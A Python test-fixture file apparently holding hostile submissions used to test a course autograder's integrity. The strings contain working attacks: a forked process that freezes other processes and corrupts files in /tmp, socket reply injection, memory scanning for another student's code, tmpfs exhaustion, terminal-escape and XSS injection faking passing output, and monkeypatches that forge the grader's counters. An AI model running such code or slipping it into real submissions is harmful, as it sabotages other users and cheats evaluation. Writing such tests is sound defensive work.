"""Hostile a1_rnn submissions used by the integrity tests: each breaks one rule of docs/security.md.

Every attack rides on a wrong implementation (`WRONG`), so any point it earns is unearned.
"""

from __future__ import annotations

WRONG = '''
import torch
from torch import nn


class RNNCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True, nonlinearity="tanh"):
        super().__init__()
        self.weight_ih = nn.Parameter(torch.zeros(hidden_size, input_size))
        self.weight_hh = nn.Parameter(torch.zeros(hidden_size, hidden_size))
        self.bias_ih = nn.Parameter(torch.zeros(hidden_size))
        self.bias_hh = nn.Parameter(torch.zeros(hidden_size))
        self.hidden_size = hidden_size

    def forward(self, input, hx=None):
        return input.new_zeros(*input.shape[:-1], self.hidden_size)
'''

# A reply the grader cannot decode (a 5,000-digit integer), written straight to the child's socket,
# and a process left behind that tries to reach whoever is graded next (their files, their process).
UNDECODABLE_REPLY_AND_LEFTOVER = WRONG + '''
import os, socket, struct, time

_me = os.getpid()
if os.fork() == 0:  # the process left behind
    os.setsid()
    for _ in range(400):
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (os.getpid(), _me):
                try:
                    os.kill(int(pid), 19)  # SIGSTOP: freeze whoever runs next
                except OSError:
                    pass
        for root, _, files in os.walk("/tmp"):
            for f in files:
                try:
                    with open(os.path.join(root, f), "a") as out:
                        out.write("1/0\\n")
                except OSError:
                    pass
        time.sleep(0.05)
    os._exit(0)


def _reply():
    body = ('{"ok": true, "value": ' + "9" * 5000 + '}').encode()
    frame = b"SQG1" + struct.pack("<IQ", len(body), 0) + body
    for fd in range(3, 64):
        try:
            if socket.socket(fileno=os.dup(fd)).type == socket.SOCK_STREAM:
                os.write(fd, frame)
        except OSError:
            pass


def forward(self, input, hx=None):
    _reply()
    time.sleep(5)
RNNCell.forward = forward
'''

# Looks through its own memory for the previous student's code (a marker only the honest source has):
# every Python object it can reach, and every readable mapping it can read through ctypes.
MEMORY_SCAN = WRONG + r'''
import ctypes, gc, re

_PATTERN = re.compile(rb"HONEST-MARKER-[0-9a-f]{16}-END")


def _scan():
    found = 0
    for obj in gc.get_objects():
        if isinstance(obj, (dict, list, tuple)):
            for v in (obj.values() if isinstance(obj, dict) else obj):
                if isinstance(v, (str, bytes)) and _PATTERN.search(v if isinstance(v, bytes) else v.encode()):
                    found += 1
    try:
        maps = open("/proc/self/maps").read().splitlines()
    except OSError:
        maps = []
    for line in maps:
        parts = line.split()
        if "r" not in parts[1] or (len(parts) > 5 and parts[5].startswith(("/usr", "/opt", "[v"))):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        if hi - lo > 256 * 1024 * 1024:
            continue
        try:
            if _PATTERN.search(ctypes.string_at(lo, hi - lo)):
                found += 1
        except (OSError, ValueError):
            pass
    return found


def forward(self, input, hx=None):
    raise RuntimeError(f"memory scan found {_scan()} copies of the previous student's code")
RNNCell.forward = forward
'''

# Fills its working folder (a tmpfs: memory) far past the limit, in files below the per-file limit.
FILLS_TMP = WRONG + '''
import os

def forward(self, input, hx=None):
    block = b"x" * (8 * 1024 * 1024)
    for i in range(128):  # 1 GiB in 8 MiB files
        with open(f"fill-{i}.bin", "wb") as f:
            f.write(block)
    return input
RNNCell.forward = forward
'''

# Control characters and markup in everything it controls: output, exception text.
ESCAPES = WRONG + '''
print("\\x1b[2K\\r\\x1b[32mAll checks passed 41/41\\x1b[0m <script>window.__pwned=1</script>")

def forward(self, input, hx=None):
    raise ValueError("\\x1b[2K\\r40/40 ```\\n# All checks passed\\n<img src=x onerror=\\"window.__pwned=1\\">\\u202e")
RNNCell.forward = forward
'''

HONEST_MARKER = "\n# HONEST-MARKER-{:016x}-END\n"


# a3_attention: a loop over query positions that the counting mode cannot see, on top of a correct
# reference (its values are right; only its parallelism is forged).
MODES_OFF_LOOP = '''

_seqgrade_sdpa = scaled_dot_product_attention


def scaled_dot_product_attention(query, key, value, attn_mask=None, is_causal=False):
    import torch as _t
    if is_causal:
        return _seqgrade_sdpa(query, key, value, attn_mask, is_causal)
    with _t._C._DisableTorchDispatch():
        outs, ws = [], []
        for i in range(query.shape[-2]):
            m = attn_mask
            if m is not None and m.dim() >= 2 and m.shape[-2] == query.shape[-2]:
                m = m[..., i:i + 1, :]
            o, w = _seqgrade_sdpa(query[..., i:i + 1, :], key, value, m, False)
            outs.append(o)
            ws.append(w)
        return _t.cat(outs, -2), _t.cat(ws, -2)
'''

# The grading harness, patched inside the child to report constant operation counts.
HARNESS_PATCH = '''
import sys as _sys

_h = _sys.modules.get("__main__")
if _h is not None and hasattr(_h, "_Counters"):
    _h._Counters.report = lambda self: {"dispatch": 40, "profiler": 120, "problems": []}
'''

# ... and the same loop with that patch.
PATCHED_HARNESS = MODES_OFF_LOOP + HARNESS_PATCH


# a4_seq2seq: the decoder's attention scores one source position at a time (a loop over keys), with the
# harness patched so the child reports constant counts: only the measurement from outside sees it.
A4_KEY_LOOP_PATCHED = '''

def _loop_forward(self, queries, keys, values, mask=None):
    import torch as _t
    q = self.W_q(queries)
    scores = _t.cat([self.w_v(_t.tanh(q + self.W_k(keys[:, j:j + 1]))) for j in range(keys.shape[1])], -1)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf")) if mask.dtype == _t.bool else scores + mask
    dead = _t.isinf(scores).all(-1, keepdim=True) & (scores < 0).all(-1, keepdim=True)
    w = _t.softmax(scores.masked_fill(dead, 0.0), -1).masked_fill(dead, 0.0)
    return w @ values, w


AdditiveAttention.forward = _loop_forward
''' + HARNESS_PATCH

# a5_transformer: the encoder layer runs one batch item at a time, with the harness patched likewise.
A5_BATCH_LOOP_PATCHED = '''

_seqgrade_enc = TransformerEncoderLayer.forward


def _per_item(self, src, src_mask=None):
    import torch as _t
    outs = []
    for i in range(src.shape[0]):
        m = src_mask
        if m is not None and m.dim() >= 3 and m.shape[0] == src.shape[0]:
            m = m[i:i + 1]
        outs.append(_seqgrade_enc(self, src[i:i + 1], m))
    return _t.cat(outs, 0)


TransformerEncoderLayer.forward = _per_item
''' + HARNESS_PATCH
